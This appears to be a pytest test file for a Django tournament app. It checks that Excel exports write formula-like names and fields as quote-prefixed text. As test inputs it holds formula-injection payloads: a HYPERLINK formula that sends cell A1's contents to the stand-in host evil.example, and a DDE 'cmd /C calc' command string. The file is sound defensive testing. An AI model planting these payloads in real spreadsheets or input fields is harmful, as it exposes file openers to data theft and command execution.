"""Formula injection: text that a spreadsheet program would read as a formula (``=``, ``+``,
``-``, ``@``, a tab or a line break first) is written as text in every download, whichever way
it entered (a form, the API, an Excel or TRF import, a restore): it goes through one cell
writer, ``tournaments/excel/styles.py: new_cell``."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook

from tests.tournaments.builders import open_workbook
from tournaments.excel.imports import template
from tournaments.excel.styles import FORMULA_STARTS, new_cell
from tournaments.excel.workbook import Table, build, to_bytes
from tournaments.models import Event, Player, Team

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def formulas(content: bytes) -> list[str]:
    """Every formula element in the workbook's XML, whatever openpyxl makes of it."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [m for name in z.namelist() if name.endswith(".xml")
                for m in re.findall(r"<(?:\w+:)?f[ >]", z.read(name).decode())]


def texts(content: bytes) -> set:
    """The workbook's text (XML keeps a carriage return as a line feed)."""
    values = [c.value for ws in open_workbook(content).worksheets for row in ws.iter_rows()
              for c in row if isinstance(c.value, str)]
    return {"\r" + v[1:] if v.startswith("\n") else v for v in values}


def test_hostile_names_clubs_and_event_name_are_text_in_the_whole_event_workbook(swiss_event):
    players = list(Player.objects.filter(entries__event=swiss_event).order_by("pk"))
    for player, text in zip(players, [HOSTILE, *OTHERS], strict=False):
        player.full_name, player.club = text, text
        player.save()
    Event.objects.filter(pk=swiss_event.pk).update(name="=1+2", venue="-cmd|' /C calc'!A0")
    swiss_event.refresh_from_db()
    for public in (True, False):
        content = to_bytes(build(swiss_event, Table("event"), lang="vi", public=public))
        assert formulas(content) == []
        assert {HOSTILE, *OTHERS, "=1+2"} <= texts(content)


def test_hostile_team_names_are_text_in_the_team_workbook(team_event):
    for i, team in enumerate(Team.objects.filter(entries__event=team_event)):
        team.name = f"{HOSTILE} {i}"
        team.save()
    content = to_bytes(build(team_event, Table("event"), lang="en"))
    assert formulas(content) == []
    assert f"{HOSTILE} 0" in texts(content)


def test_a_formula_like_cell_is_a_quote_prefixed_string_and_its_neighbours_are_unchanged(
        swiss_event):
    player = Player.objects.filter(entries__event=swiss_event).first()
    player.full_name = HOSTILE
    player.save()
    ws = open_workbook(to_bytes(build(swiss_event, Table("players"), lang="vi"))).worksheets[0]
    cells = [c for row in ws.iter_rows(min_row=5) for c in row]
    hostile = [c for c in cells if c.value == HOSTILE]
    assert len(hostile) == 1 and hostile[0].data_type == "s" and hostile[0].quotePrefix
    assert not any(c.quotePrefix for c in cells if c.value != HOSTILE)


def test_numbers_stay_numbers_and_plain_text_is_not_quoted():
    ws = Workbook().active
    assert new_cell(ws, -5).data_type == "n" and new_cell(ws, -5).value == -5
    assert not new_cell(ws, "Lê Văn A-1").quotePrefix
    assert all(new_cell(ws, f"{start}1").quotePrefix for start in FORMULA_STARTS)


def test_the_import_template_has_no_formula_cells():
    assert formulas(to_bytes(template("vi", team=True))) == []
